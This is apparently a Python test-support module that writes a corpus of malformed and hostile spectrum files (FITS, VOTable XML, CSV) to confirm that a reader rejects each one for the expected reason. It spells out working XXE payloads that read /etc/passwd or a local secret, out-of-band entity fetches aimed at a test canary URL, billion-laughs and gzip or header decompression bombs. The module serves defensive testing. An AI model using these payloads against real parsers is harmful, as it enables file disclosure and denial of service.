"""Broken and malicious spectrum files, written by code into a directory.

Nothing here is committed as data: :func:`write_corpus` writes every file at
test time (the largest, a 200 MB image, as a sparse file), so the corpus
costs a few MB of disk and under a second to make.  Each :class:`Hostile`
says what is wrong with its file and a regular expression the reader's
reason must match, so a test checks that the file is refused *for the right
reason*, not merely refused.

The XML entries point their external entities and ``STREAM href`` at two
things a test can watch: ``secret`` (a local file holding a random token,
besides ``/etc/passwd``) and ``canary_url`` (an HTTP listener that records
every request).  A reader that resolved any of them would leak the token
or the passwd lines into its output, or show up in the listener's log.
"""
from __future__ import annotations

import gzip
import io
import struct
import zlib
from dataclasses import dataclass
from pathlib import Path

import numpy as np
from astropy.io import fits

__all__ = ["Hostile", "write_corpus", "good_image", "PASSWD_MARKERS"]

#: text that only a read of /etc/passwd could put into an output
PASSWD_MARKERS = ("root:x:0:0", "/bin/bash", "/usr/sbin/nologin", "daemon:x:")

#: what a gzip bomb decompresses to (the readers' limit is far below)
BOMB_BYTES = 4 * 1024**3


@dataclass(frozen=True)
class Hostile:
    """One hostile file.

    Attributes
    ----------
    name : str
        File name inside the corpus directory (the suffix is part of the
        attack: a text file called ``.fits``).
    problem : str
        What is wrong with it, for reports.
    reason : str
        Regular expression (case-insensitive) the ``ReaderError`` reason must
        match.
    path : Path
        Where it was written.
    """

    name: str
    problem: str
    reason: str
    path: Path


# --------------------------------------------------------------------------
# Raw FITS writing: hostile headers astropy would refuse to write
# --------------------------------------------------------------------------

def card(key: str, value=None, comment: str = "") -> bytes:
    """One 80-byte header card.  A str value is written as it is (quote it
    for a FITS string), so malformed values ('NaN', '1E999') can be made;
    None makes a card without value (COMMENT, padding)."""
    if key == "END":
        return b"END".ljust(80)
    if value is None:
        text = key.ljust(80)
    else:
        if isinstance(value, bool):
            text_value = "T" if value else "F"
        elif isinstance(value, str) and value.startswith("'"):
            text_value = value
        else:
            text_value = str(value)
        text = f"{key:<8}= {text_value:>20}"
        if comment:
            text += f" / {comment}"
    return text[:80].ljust(80).encode("ascii")


def header(*cards: bytes) -> bytes:
    """Cards plus END, padded to whole 2880-byte blocks with blanks."""
    raw = b"".join(cards) + card("END")
    return raw + b" " * (-len(raw) % 2880)


def pad(data: bytes) -> bytes:
    """Data padded to whole 2880-byte blocks with zeros."""
    return data + b"\0" * (-len(data) % 2880)


def image_header(bitpix, *axes, extra=()) -> bytes:
    """A primary header for an image of this BITPIX and these axes."""
    cards = [card("SIMPLE", True), card("BITPIX", bitpix),
             card("NAXIS", len(axes))]
    cards += [card(f"NAXIS{i}", n) for i, n in enumerate(axes, start=1)]
    return header(*cards, *extra)


WCS_CARDS = (card("CRVAL1", 4000.0), card("CDELT1", 1.0), card("CRPIX1", 1.0),
             card("CTYPE1", "'WAVE    '"))


def good_image(npix: int = 500) -> fits.HDUList:
    """A valid 1-D spectrum image (the template the bad ones break)."""
    flux = (1.0 + 0.2 * np.sin(np.arange(npix) / 15.0)).astype(np.float32)
    hdu = fits.PrimaryHDU(flux)
    hdu.header.update(CRVAL1=4000.0, CDELT1=1.0, CRPIX1=1.0, CTYPE1="WAVE",
                      BUNIT="erg/s/cm2/Angstrom", OBJECT="template")
    return fits.HDUList([hdu])


def table_file(path: Path, columns: list[fits.Column], **cards) -> None:
    """A primary HDU and a SPECTRUM binary table of these columns."""
    table = fits.BinTableHDU.from_columns(columns, name="SPECTRUM")
    table.header.update(cards)
    fits.HDUList([fits.PrimaryHDU(), table]).writeto(path, overwrite=True)


def spectrum_table(path: Path, wave, flux, error=None) -> None:
    """An ESO Phase 3 style table: one row of WAVE/FLUX(/ERR) arrays."""
    n = len(wave)
    columns = [fits.Column("WAVE", f"{n}D", unit="Angstrom", array=[wave]),
               fits.Column("FLUX", f"{len(flux)}D", unit="erg/s/cm2/Angstrom",
                           array=[flux])]
    if error is not None:
        columns.append(fits.Column("ERR", f"{len(error)}D", array=[error]))
    table_file(path, columns)


def gzip_members(first: bytes, filler_member: bytes, total: int) -> bytes:
    """A multi-member gzip file: ``first`` then copies of a member of zeros
    until ``total`` bytes decompress (gzip readers concatenate members)."""
    out = [gzip.compress(first, 9)] if first else []
    member_bytes = len(zlib.decompress(filler_member, 31))
    out += [filler_member] * (max(total - len(first), 0) // member_bytes)
    return b"".join(out)


# --------------------------------------------------------------------------
# XML
# --------------------------------------------------------------------------

VOTABLE_HEAD = ('<VOTABLE version="1.4" '
                'xmlns="http://www.ivoa.net/xml/VOTable/v1.3">')


def votable(body_fields: str, rows: str, *, prolog: str = "",
            table_attrs: str = "", description: str = "") -> str:
    """A small SDM-like VOTable with TABLEDATA rows."""
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}'
            f"{VOTABLE_HEAD}<RESOURCE type=\"results\">"
            f"<DESCRIPTION>{description}</DESCRIPTION>"
            f"<TABLE {table_attrs}>{body_fields}"
            f"<DATA><TABLEDATA>{rows}</TABLEDATA></DATA></TABLE>"
            "</RESOURCE></VOTABLE>\n")


SDM_FIELDS = ('<FIELD name="spectral" datatype="double" unit="Angstrom" '
              'ucd="em.wl" utype="spec:Data.SpectralAxis.Value"/>'
              '<FIELD name="flux" datatype="double" unit="erg/s/cm2/Angstrom" '
              'ucd="phot.flux.density;em.wl" '
              'utype="spec:Data.FluxAxis.Value"/>')


def sdm_rows(wave, flux) -> str:
    """TABLEDATA rows of wavelength and flux, written exactly (repr)."""
    return "".join(f"<TR><TD>{w!r}</TD><TD>{f!r}</TD></TR>"
                   for w, f in zip(wave, flux))


def binary_votable(stream: str, element: str = "BINARY") -> str:
    """A VOTable whose data is a STREAM in a BINARY/BINARY2/FITS element."""
    return (f'<?xml version="1.0"?>\n{VOTABLE_HEAD}<RESOURCE><TABLE>'
            f"{SDM_FIELDS}<DATA><{element}>{stream}</{element}></DATA>"
            "</TABLE></RESOURCE></VOTABLE>\n")


# --------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------

def write_corpus(directory: Path, *, base_fits: Path, canary_url: str,
                 secret: Path) -> list[Hostile]:
    """Write every hostile file into ``directory``.

    Parameters
    ----------
    directory : Path
        An empty temporary directory.
    base_fits : Path
        A real, valid 1-D FITS spectrum (uncompressed): the truncations cut
        this file, so they are cut points of a real file.
    canary_url : str
        ``http://host:port/`` of a listener; remote entities and streams
        point below it.
    secret : Path
        A local file whose content must never appear in any output.

    Returns
    -------
    list of Hostile
        In the order written; names are unique.
    """
    directory = Path(directory)
    rng = np.random.default_rng(20240606)
    made: list[Hostile] = []

    def add(name, problem, reason, content=None):
        path = directory / name
        if content is not None:
            path.write_bytes(content.encode() if isinstance(content, str)
                             else content)
        made.append(Hostile(name, problem, reason, path))
        return path

    wave = np.linspace(4000.0, 5000.0, 500)
    flux = 1.0 + 0.2 * np.sin(np.arange(500) / 15.0)
    real = Path(base_fits).read_bytes()
    with fits.open(base_fits) as hdul:
        data_start = hdul[0]._data_offset
        data_size = hdul[0].data.nbytes

    # ---- truncated FITS: cut points across a real file -----------------
    add("cut_in_first_card.fits", "real FITS cut after 40 bytes",
        r"truncated", real[:40])
    add("cut_in_header.fits", "real FITS cut inside its header",
        r"truncated", real[:1500])
    add("cut_at_data_start.fits", "real FITS cut where its data begins",
        r"truncated", real[:data_start])
    add("cut_mid_data.fits", "real FITS cut half-way through its data",
        r"truncated", real[:data_start + data_size // 2])
    add("cut_one_byte_short.fits", "real FITS missing its last data byte",
        r"truncated", real[:data_start + data_size - 1])
    packed = gzip.compress(real)
    add("cut_gzip_stream.fits.gz", "gzip of a real FITS cut in half",
        r"truncated or corrupt gzip", packed[:len(packed) // 2])

    # ---- contradictory or nonsensical headers --------------------------
    block = pad(flux.astype(">f4").tobytes())
    add("naxis_too_few_axes.fits", "NAXIS = 3 but only NAXIS1 given",
        r"NAXIS2",
        header(card("SIMPLE", True), card("BITPIX", -32), card("NAXIS", 3),
               card("NAXIS1", 500), *WCS_CARDS) + block)
    add("naxis_negative.fits", "NAXIS1 = -500",
        r"NAXIS1|negative|not a readable FITS|corrupt",
        header(card("SIMPLE", True), card("BITPIX", -32),
               card("NAXIS", 1), card("NAXIS1", -500)) + block)
    add("naxis_1000.fits", "NAXIS = 1000 (the standard allows 999)",
        r"NAXIS|not a readable FITS|corrupt",
        header(card("SIMPLE", True), card("BITPIX", -32),
               card("NAXIS", 1000), card("NAXIS1", 500)) + block)
    add("bitpix_13.fits", "BITPIX = 13",
        r"BITPIX",
        header(card("SIMPLE", True), card("BITPIX", 13),
               card("NAXIS", 1), card("NAXIS1", 500), *WCS_CARDS) + block)
    add("bitpix_text.fits", "BITPIX = 'float'",
        r"BITPIX",
        header(card("SIMPLE", True), card("BITPIX", "'float   '"),
               card("NAXIS", 1), card("NAXIS1", 500), *WCS_CARDS) + block)
    add("naxis1_text.fits", "NAXIS1 = 'many'",
        r"NAXIS1",
        header(card("SIMPLE", True), card("BITPIX", -32),
               card("NAXIS", 1), card("NAXIS1", "'many    '"),
               *WCS_CARDS) + block)
    add("cdelt1_zero.fits", "CDELT1 = 0: every pixel at one wavelength",
        r"CDELT1",
        header(card("SIMPLE", True), card("BITPIX", -32), card("NAXIS", 1),
               card("NAXIS1", 500), card("CRVAL1", 4000.0),
               card("CDELT1", 0.0), card("CRPIX1", 1.0)) + block)
    add("cdelt1_negative.fits", "CDELT1 = -1: wavelengths run backwards",
        r"not strictly increasing",
        header(card("SIMPLE", True), card("BITPIX", -32), card("NAXIS", 1),
               card("NAXIS1", 500), card("CRVAL1", 4000.0),
               card("CDELT1", -1.0), card("CRPIX1", 1.0)) + block)
    add("crval1_nan.fits", "CRVAL1 = NaN",
        r"CRVAL1",
        header(card("SIMPLE", True), card("BITPIX", -32), card("NAXIS", 1),
               card("NAXIS1", 500), card("CRVAL1", "NaN"),
               card("CDELT1", 1.0), card("CRPIX1", 1.0)) + block)
    add("crval1_overflow.fits", "CRVAL1 = 1E999 (overflows to infinity)",
        r"CRVAL1",
        header(card("SIMPLE", True), card("BITPIX", -32), card("NAXIS", 1),
               card("NAXIS1", 500), card("CRVAL1", "1E999"),
               card("CDELT1", 1.0), card("CRPIX1", 1.0)) + block)
    add("loglin_overflow.fits", "log-linear WCS whose wavelengths overflow",
        r"wavelength has \d+ non-finite",
        header(card("SIMPLE", True), card("BITPIX", -32), card("NAXIS", 1),
               card("NAXIS1", 500), card("CRVAL1", 300.0),
               card("CDELT1", 0.1), card("DC-FLAG", 1)) + block)

    # ---- declared sizes far beyond the data ---------------------------
    add("naxis1_2e31.fits", "NAXIS1 = 2**31 with one block of data",
        r"declares .* limit",
        header(card("SIMPLE", True), card("BITPIX", -32), card("NAXIS", 1),
               card("NAXIS1", 2**31), *WCS_CARDS) + block)
    add("naxis_product_overflow.fits",
        "NAXIS1 x NAXIS2 x NAXIS3 overflows 64 bits",
        r"declares .* limit",
        header(card("SIMPLE", True), card("BITPIX", 64), card("NAXIS", 3),
               card("NAXIS1", 2**40), card("NAXIS2", 2**40),
               card("NAXIS3", 2**40)) + block)
    huge = add("huge_real_image.fits",
               "a real 1-D image of 5e7 float32 pixels (200 MB on disk)",
               r"declares .* limit")
    with open(huge, "wb") as stream:
        npix = 50_000_000
        head = header(card("SIMPLE", True), card("BITPIX", -32),
                      card("NAXIS", 1), card("NAXIS1", npix), *WCS_CARDS)
        stream.write(head + flux.astype(">f4").tobytes())
        # sparse: the rest of the 200 MB reads as zeros without using disk
        stream.truncate(len(head) + 4 * npix + (-4 * npix) % 2880)
    add("table_rows_2e31.fits", "binary table declaring 2**31 rows",
        r"declares .* limit",
        header(card("SIMPLE", True), card("BITPIX", 8), card("NAXIS", 0),
               card("EXTEND", True))
        + header(card("XTENSION", "'BINTABLE'"), card("BITPIX", 8),
                 card("NAXIS", 2), card("NAXIS1", 16), card("NAXIS2", 2**31),
                 card("PCOUNT", 0), card("GCOUNT", 1), card("TFIELDS", 2),
                 card("TTYPE1", "'WAVE    '"), card("TFORM1", "'D       '"),
                 card("TTYPE2", "'FLUX    '"), card("TFORM2", "'D       '"))
        + pad(np.column_stack([wave, flux]).astype(">f8").tobytes()))
    add("heap_2e40.fits", "binary table with a 2**40-byte heap (PCOUNT)",
        r"declares .* limit",
        header(card("SIMPLE", True), card("BITPIX", 8), card("NAXIS", 0),
               card("EXTEND", True))
        + header(card("XTENSION", "'BINTABLE'"), card("BITPIX", 8),
                 card("NAXIS", 2), card("NAXIS1", 8), card("NAXIS2", 1),
                 card("PCOUNT", 2**40), card("GCOUNT", 1), card("TFIELDS", 1),
                 card("TTYPE1", "'FLUX    '"), card("TFORM1", "'1PD(500)'"))
        + pad(struct.pack(">ii", 500, 0)))
    tile = fits.CompImageHDU(flux.astype(np.float32),
                             compression_type="GZIP_1")
    tile.header.update(CRVAL1=4000.0, CDELT1=1.0)
    tiled = directory / "_tile.fits"
    fits.HDUList([fits.PrimaryHDU(), tile]).writeto(tiled)
    raw = tiled.read_bytes().replace(
        b"ZNAXIS1 =                  500", b"ZNAXIS1 =             50000000")
    tiled.unlink()
    add("tile_compressed_5e7.fits",
        "tile-compressed image claiming 5e7 pixels (decompression bomb)",
        r"declares .* limit", raw)
    add("many_hdus.fits", "5000 empty extensions",
        r"more than \d+ HDUs",
        header(card("SIMPLE", True), card("BITPIX", 8), card("NAXIS", 0),
               card("EXTEND", True))
        + header(card("XTENSION", "'IMAGE   '"), card("BITPIX", 8),
                 card("NAXIS", 0), card("PCOUNT", 0), card("GCOUNT", 1)) * 5000)
    bomb_header = header(card("SIMPLE", True), card("BITPIX", 8),
                         card("NAXIS", 0),
                         *(card(f"K{i:07d}", i) for i in range(1_000_000)))
    add("header_bomb.fits.gz", "a 1,000,000-card (80 MB) header, gzipped",
        r"more than [\d,]+ cards", gzip.compress(bomb_header, 6))
    del bomb_header
    add("no_end_card.fits", "a header that never ends (no END card)",
        r"END|truncated",
        b"".join([card("SIMPLE", True), card("BITPIX", -32), card("NAXIS", 1),
                  card("NAXIS1", 500)]) + card("COMMENT") * 2000)
    add("zero_length_hdus.fits", "primary and extensions without any data",
        r"no known spectrum layout|no rows",
        header(card("SIMPLE", True), card("BITPIX", 8), card("NAXIS", 0),
               card("EXTEND", True))
        + header(card("XTENSION", "'IMAGE   '"), card("BITPIX", -32),
                 card("NAXIS", 1), card("NAXIS1", 0), card("PCOUNT", 0),
                 card("GCOUNT", 1), *WCS_CARDS)
        + header(card("XTENSION", "'BINTABLE'"), card("BITPIX", 8),
                 card("NAXIS", 2), card("NAXIS1", 16), card("NAXIS2", 0),
                 card("PCOUNT", 0), card("GCOUNT", 1), card("TFIELDS", 2),
                 card("TTYPE1", "'WAVE    '"), card("TFORM1", "'D       '"),
                 card("TTYPE2", "'FLUX    '"), card("TFORM2", "'D       '")))
    add("trailing_garbage.fits", "a valid spectrum followed by 1 MB of junk",
        r"after HDU|corrupt",
        header(card("SIMPLE", True), card("BITPIX", -32), card("NAXIS", 1),
               card("NAXIS1", 500), *WCS_CARDS) + block
        + rng.integers(32, 127, 1 << 20, dtype=np.uint8).tobytes())

    # ---- compression bombs ---------------------------------------------
    zeros_member = gzip.compress(b"\0" * (64 << 20), 9)
    add("bomb_zeros.fits.gz", "gzip of 4 GiB of zeros, named .fits",
        r"not a FITS file|decompresses to more than",
        gzip_members(b"", zeros_member, BOMB_BYTES))
    add("bomb_fits.fits.gz",
        "gzip FITS: a small valid spectrum, then 4 GiB of zero padding",
        r"decompresses to more than",
        gzip_members(header(card("SIMPLE", True), card("BITPIX", -32),
                            card("NAXIS", 1), card("NAXIS1", 500),
                            *WCS_CARDS) + block,
                     zeros_member, BOMB_BYTES))
    add("bomb_declared.fits.gz",
        "gzip FITS declaring 4 GiB of data, the zeros to match",
        r"declares .* limit",
        gzip_members(header(card("SIMPLE", True), card("BITPIX", 8),
                            card("NAXIS", 1), card("NAXIS1", BOMB_BYTES),
                            *WCS_CARDS),
                     zeros_member, BOMB_BYTES))
    add("bomb_votable.xml.gz", "gzip of a VOTable padded with 4 GiB of blanks",
        r"decompresses to more than",
        gzip_members(votable(SDM_FIELDS, sdm_rows(wave, flux)).encode(),
                     gzip.compress(b" " * (64 << 20), 9), BOMB_BYTES))

    # ---- flux and wavelength values ------------------------------------
    bad_flux = flux.copy()
    add("nan_flux.fits", "every flux pixel NaN", r"flux",
        _image_bytes(np.full(500, np.nan)))
    add("inf_flux.fits", "every flux pixel +/-Inf", r"flux",
        _image_bytes(np.where(np.arange(500) % 2, np.inf, -np.inf)))
    bad_flux[::3] = np.nan
    bad_flux[1::3] = np.inf
    add("nan_inf_zero_flux.fits", "flux a third each NaN, Inf and 0",
        r"good pixels|flux",
        _image_bytes(np.where(np.arange(500) % 3 == 2, 0.0, bad_flux)))
    w = wave.copy()
    w[100] = np.nan
    spectrum_table(add("nan_wavelength.fits", "a NaN wavelength", r"non-finite"),
                   w, flux)
    w = wave.copy()
    w[-1] = np.inf
    spectrum_table(add("inf_wavelength.fits", "an infinite wavelength",
                       r"non-finite"), w, flux)
    spectrum_table(add("negative_wavelength.fits", "wavelengths from -500 A",
                       r"non-positive"), wave - 4500.0, flux)
    spectrum_table(add("unsorted_wavelength.fits", "shuffled wavelengths",
                       r"not strictly increasing"), rng.permutation(wave), flux)
    w = wave.copy()
    w[200:210] = w[200]
    spectrum_table(add("duplicated_wavelength.fits", "10 equal wavelengths",
                       r"not strictly increasing"), w, flux)
    spectrum_table(add("mismatched_arrays.fits", "WAVE 500, FLUX 400 values",
                       r"array lengths differ"), wave, flux[:400])
    spectrum_table(add("mismatched_error.fits", "ERR has 300 values",
                       r"array lengths differ"), wave, flux, np.ones(300))
    table_file(add("vla_lengths_differ.fits",
                   "variable-length WAVE/FLUX arrays of different lengths",
                   r"array lengths differ|lengths"),
               [fits.Column("WAVE", "PD()", unit="Angstrom",
                            array=np.array([wave], dtype=object)),
                fits.Column("FLUX", "PD()",
                            array=np.array([flux[:250]], dtype=object))])
    vla = directory / "_vla.fits"
    table_file(vla, [fits.Column("WAVE", "PD()", unit="Angstrom",
                                 array=np.array([wave], dtype=object)),
                     fits.Column("FLUX", "PD()",
                                 array=np.array([flux], dtype=object))])
    raw = bytearray(vla.read_bytes())
    vla.unlink()
    # the FLUX descriptor (count, offset) claims 2**30 elements at the heap
    table_start = raw.index(b"XTENSION")
    data_at = table_start + raw[table_start:].index(b"END" + b" " * 77) + 80
    data_at += -data_at % 2880
    raw[data_at + 8:data_at + 16] = struct.pack(">ii", 2**30, 0)
    add("vla_descriptor_2e30.fits",
        "variable-length array descriptor claiming 2**30 elements",
        r"array lengths differ", bytes(raw))

    # ---- not FITS at all -----------------------------------------------
    add("empty.fits", "an empty file", r"empty file", b"")
    add("text_named_fits.fits", "plain text with a .fits name",
        r"not a FITS file", "This is not a spectrum.\nJust words.\n")
    add("html_named_fits.fits", "an HTML error page saved as .fits",
        r"not a FITS file",
        "<html><head><title>404</title></head><body>Not found</body></html>")
    add("png_named_fits.fits", "a PNG signature and junk",
        r"not a FITS file", b"\x89PNG\r\n\x1a\n" + rng.bytes(4000))
    add("binary_garbage.fits", "64 KiB of random bytes", r"not a FITS file",
        rng.bytes(65536))
    add("simple_then_garbage.fits", "'SIMPLE  =' then random bytes",
        r"FITS|truncated|corrupt", b"SIMPLE  =" + rng.bytes(20000))
    add("zip_named_fits.fits", "a zip archive named .fits",
        r"not a FITS file", b"PK\x03\x04" + rng.bytes(3000))
    add("bzip2_named_fits.fits", "bzip2 data named .fits",
        r"not a FITS file", b"BZh91AY&SY" + rng.bytes(3000))
    add("nul_bytes.fits", "1 MiB of NUL bytes", r"not a FITS file",
        b"\0" * (1 << 20))

    # ---- XML: entities, DTDs, external data ----------------------------
    rows = sdm_rows(wave, flux)
    add("xxe_file.xml", "external entity reading /etc/passwd",
        r"DOCTYPE|DTD|entit",
        votable(SDM_FIELDS, rows, description="&xxe;",
                prolog='<!DOCTYPE VOTABLE [<!ENTITY xxe SYSTEM '
                       '"file:///etc/passwd">]>\n'))
    add("xxe_secret.xml", "external entity reading a local secret into a TD",
        r"DOCTYPE|DTD|entit",
        votable(SDM_FIELDS, f"<TR><TD>4000</TD><TD>&xxe;</TD></TR>" + rows,
                prolog=f'<!DOCTYPE VOTABLE [<!ENTITY xxe SYSTEM '
                       f'"{Path(secret).as_uri()}">]>\n'))
    add("xxe_http.xml", "external entity fetched over HTTP",
        r"DOCTYPE|DTD|entit",
        votable(SDM_FIELDS, rows, description="&remote;",
                prolog=f'<!DOCTYPE VOTABLE [<!ENTITY remote SYSTEM '
                       f'"{canary_url}entity">]>\n'))
    add("xxe_parameter_entity.xml", "remote parameter entity (out-of-band XXE)",
        r"DOCTYPE|DTD|entit",
        votable(SDM_FIELDS, rows,
                prolog=f'<!DOCTYPE VOTABLE [<!ENTITY % dtd SYSTEM '
                       f'"{canary_url}evil.dtd"> %dtd;]>\n'))
    add("external_dtd.xml", "DOCTYPE with a remote DTD",
        r"DOCTYPE|DTD",
        votable(SDM_FIELDS, rows,
                prolog=f'<!DOCTYPE VOTABLE SYSTEM "{canary_url}VOTable.dtd">\n'))
    add("doctype_plain.xml", "a harmless-looking VOTable 1.0 style DOCTYPE",
        r"DOCTYPE|DTD",
        votable(SDM_FIELDS, rows,
                prolog='<!DOCTYPE VOTABLE SYSTEM '
                       '"http://us-vo.org/xml/VOTable.dtd">\n'))
    laughs = "".join(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">'
                     for i in range(1, 10))
    add("billion_laughs.xml", "nested entities expanding to 10**9 'lol's",
        r"DOCTYPE|DTD|entit",
        votable(SDM_FIELDS, rows, description="&lol9;",
                prolog=f'<!DOCTYPE VOTABLE [<!ENTITY lol0 "lol">{laughs}]>\n'))
    add("quadratic_blowup.xml", "one 2 kB entity referenced 100000 times",
        r"DOCTYPE|DTD|entit",
        votable(SDM_FIELDS, rows, description="&a;" * 100000,
                prolog=f'<!DOCTYPE VOTABLE [<!ENTITY a "{"x" * 2000}">]>\n'))
    add("deep_nesting.xml", "100000 nested RESOURCE elements",
        r"nest|deep",
        f'<?xml version="1.0"?>\n{VOTABLE_HEAD}' + "<RESOURCE>" * 100000
        + "</RESOURCE>" * 100000 + "</VOTABLE>\n")
    add("stream_href_file.xml", "BINARY STREAM href reading /etc/passwd",
        r"href|external",
        binary_votable('<STREAM href="file:///etc/passwd"/>'))
    add("stream_href_secret.xml", "BINARY2 STREAM href reading a local secret",
        r"href|external",
        binary_votable(f'<STREAM href="{Path(secret).as_uri()}"/>', "BINARY2"))
    add("stream_href_http.xml", "BINARY STREAM href fetched over HTTP",
        r"href|external",
        binary_votable(f'<STREAM href="{canary_url}stream" '
                       'encoding="gzip"/>'))
    add("fits_stream_href.xml", "FITS-serialised data from a remote URL",
        r"href|external|FITS",
        binary_votable(f'<STREAM href="{canary_url}data.fits"/>', "FITS"))
    add("xinclude.xml", "an XInclude of /etc/passwd",
        r"XInclude|include|wavelength|no known",
        f'<?xml version="1.0"?>\n<VOTABLE version="1.4" '
        'xmlns="http://www.ivoa.net/xml/VOTable/v1.3" '
        'xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<xi:include href="file:///etc/passwd" parse="text"/></VOTABLE>\n')
    add("nrows_huge.xml", "TABLE nrows = 10**12 (preallocation bomb)",
        r"nrows|rows",
        votable(SDM_FIELDS, rows, table_attrs='nrows="1000000000000"'))
    add("arraysize_huge.xml", "FIELD arraysize 2**31 (preallocation bomb)",
        r"arraysize",
        votable('<FIELD name="spectral" datatype="double" unit="Angstrom" '
                'ucd="em.wl" arraysize="2147483647"/>'
                '<FIELD name="flux" datatype="double" ucd="phot.flux.density"'
                ' arraysize="2147483647"/>', "<TR><TD>1 2</TD><TD>1 2</TD></TR>"))
    add("arraysize_2d_huge.xml", "FIELD arraysize 100000x100000x*",
        r"arraysize",
        votable('<FIELD name="spectral" datatype="double" unit="Angstrom" '
                'ucd="em.wl" arraysize="100000x100000x*"/>'
                '<FIELD name="flux" datatype="double" ucd="phot.flux.density"/>',
                "<TR><TD>1 2</TD><TD>1</TD></TR>"))
    add("votable_mismatched_arrays.xml", "array cells of 500 and 400 values",
        r"array lengths differ|holds an array",
        votable('<FIELD name="spectral" datatype="double" unit="Angstrom" '
                'ucd="em.wl" arraysize="*"/><FIELD name="flux" '
                'datatype="double" ucd="phot.flux.density" arraysize="*"/>',
                "<TR><TD>" + " ".join(map(repr, wave)) + "</TD><TD>"
                + " ".join(map(repr, flux[:400])) + "</TD></TR>"))
    add("votable_nan_inf.xml", "SDM VOTable with NaN/Inf wavelengths",
        r"non-finite",
        votable(SDM_FIELDS, sdm_rows(np.where(np.arange(500) % 7, wave, np.nan),
                                     flux)))
    add("votable_not_wellformed.xml", "unclosed elements",
        r"not a readable VOTable|well-formed|XML",
        f'<?xml version="1.0"?>\n{VOTABLE_HEAD}<RESOURCE><TABLE>{SDM_FIELDS}'
        "<DATA><TABLEDATA><TR><TD>1</TD>")
    add("votable_utf16_entity.xml",
        "UTF-16 VOTable hiding an external entity from byte scans",
        r"not a FITS file|DOCTYPE|DTD|entit",
        votable(SDM_FIELDS, rows, description="&xxe;",
                prolog='<!DOCTYPE VOTABLE [<!ENTITY xxe SYSTEM '
                       '"file:///etc/passwd">]>\n')
        .replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))

    # ---- CSV -------------------------------------------------------------
    add("csv_huge_numbers.csv", "numbers beyond float range (1e999)",
        r"non-finite|flux",
        "wavelength [Angstrom], flux\n"
        + "".join(f"{w!r}, 1e999\n" for w in wave))
    add("csv_huge_wavelengths.csv", "wavelengths beyond float range",
        r"non-finite",
        "wavelength [Angstrom], flux\n"
        + "".join(f"{'9' * 400}{i:03d}, {f!r}\n" for i, f in enumerate(flux)))
    add("csv_5000_digit_integers.csv", "integers of 5000 digits",
        r"non-finite|non-numeric|CSV",
        "wavelength [Angstrom], flux\n"
        + "".join(f"{'1' * 5000}, {i}\n" for i in range(50)))
    add("csv_text_in_numbers.csv", "words in the flux column",
        r"non-numeric",
        "wavelength [Angstrom], flux\n"
        + "".join(f"{w!r}, {'bright' if i % 50 == 7 else repr(f)}\n"
                  for i, (w, f) in enumerate(zip(wave, flux))))
    add("csv_no_units.csv", "no unit on the wavelength column",
        r"wavelength \[unit\]|unit",
        "wavelength, flux\n" + "".join(f"{w!r}, {f!r}\n"
                                       for w, f in zip(wave, flux)))
    add("csv_unit_not_length.csv", "wavelength in kilograms",
        r"not a length",
        "wavelength [kg], flux\n" + "".join(f"{w!r}, {f!r}\n"
                                            for w, f in zip(wave, flux)))
    add("csv_ragged.csv", "rows with differing numbers of values",
        r"CSV",
        "wavelength [Angstrom], flux\n"
        + "".join(f"{w!r}, {f!r}{', 1' * (i % 3)}\n"
                  for i, (w, f) in enumerate(zip(wave, flux))))
    add("csv_100k_columns.csv", "a header of 100000 columns",
        r"columns",
        "wavelength [Angstrom], flux, " + ", ".join(f"c{i}" for i in range(100000))
        + "\n" + ", ".join(["1"] * 100002) + "\n")
    add("csv_nul_bytes.csv", "NUL bytes inside the numbers",
        r"non-numeric|CSV|NUL",
        "wavelength [Angstrom], flux\n"
        + "".join(f"{w!r}\0, {f!r}\n" for w, f in zip(wave, flux)))
    add("csv_unsorted.csv", "CSV with shuffled wavelengths",
        r"not strictly increasing",
        "wavelength [Angstrom], flux\n"
        + "".join(f"{w!r}, {f!r}\n" for w, f in zip(rng.permutation(wave), flux)))
    missing = [h.name for h in made if not h.path.is_file()]
    assert not missing and len({h.name for h in made}) == len(made), missing
    return made


def _image_bytes(flux) -> bytes:
    """A valid image file but for its flux."""
    hdul = good_image(len(flux))
    hdul[0].data = np.asarray(flux, dtype=np.float32)
    out = io.BytesIO()
    hdul.writeto(out)
    return out.getvalue()
